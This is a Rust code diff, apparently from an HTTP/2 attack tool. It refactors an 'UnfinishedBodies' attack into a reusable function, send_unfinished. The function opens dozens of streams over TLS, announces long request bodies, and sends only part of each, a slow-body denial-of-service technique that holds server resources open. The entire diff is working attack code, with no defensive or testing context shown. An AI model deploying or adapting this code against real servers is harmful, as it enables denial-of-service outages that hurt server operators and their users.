@@ -180,22 +180,7 @@ impl Attacker {
         let peer = self.peer.as_ref()?;
         let mut stream = tokio::time::timeout(Duration::from_secs(10), peer.handshake()).await.ok()?.ok()?;
         if matches!(self.attack, Attack::UnfinishedBodies) {
-            let mut out = preface();
-            for number in (1..64).step_by(2) {
-                let mut whole = Vec::new();
-                self.request.write(number, &mut whole);
-                // The message is announced as long, and begun.
-                let head = whole.len() - self.request.flow() - frames::Head::BYTES;
-                out.extend_from_slice(whole.get(..head)?);
-                let mut body = vec![0, 0, 3, 0, 0];
-                body.resize(16_000, 0);
-                frames::frame(&mut out, frames::DATA, 0, number, &body);
-                if out.len() > 32_000 {
-                    stream.write_all(&out).await.ok()?;
-                    out.clear();
-                }
-            }
-            stream.write_all(&out).await.ok()?;
+            send_unfinished(&mut stream, &self.request, 32).await.ok()?;
         }
         Some(Kept::Connected(Box::new(stream)))
     }
@@ -206,6 +191,32 @@ impl Attacker {
 enum Kept {
     Silent(TcpStream),
     Connected(Box<tokio_rustls::client::TlsStream<tokio::net::TcpStream>>),
+}
+
+/// The bytes of each unfinished body that are sent.
+pub(crate) const UNFINISHED_BYTES: usize = 16_000;
+
+/// Begins a connection and so many requests whose bodies are announced as longer than what is sent of them.
+pub(crate) async fn send_unfinished(
+    stream: &mut tokio_rustls::client::TlsStream<tokio::net::TcpStream>,
+    request: &Request,
+    count: u32,
+) -> Result<(), Failure> {
+    let mut out = preface();
+    for number in (1..2 * count).step_by(2) {
+        let mut whole = Vec::new();
+        request.write(number, &mut whole);
+        let head = whole.len() - request.flow() - frames::Head::BYTES;
+        out.extend_from_slice(whole.get(..head).ok_or("no head")?);
+        let mut body = vec![0, 0, 3, 0, 0];
+        body.resize(UNFINISHED_BYTES, 0);
+        frames::frame(&mut out, frames::DATA, 0, number, &body);
+        if out.len() > 32_000 {
+            stream.write_all(&out).await?;
+            out.clear();
+        }
+    }
+    Ok(stream.write_all(&out).await?)
 }
 
 fn preface() -> Vec<u8> {
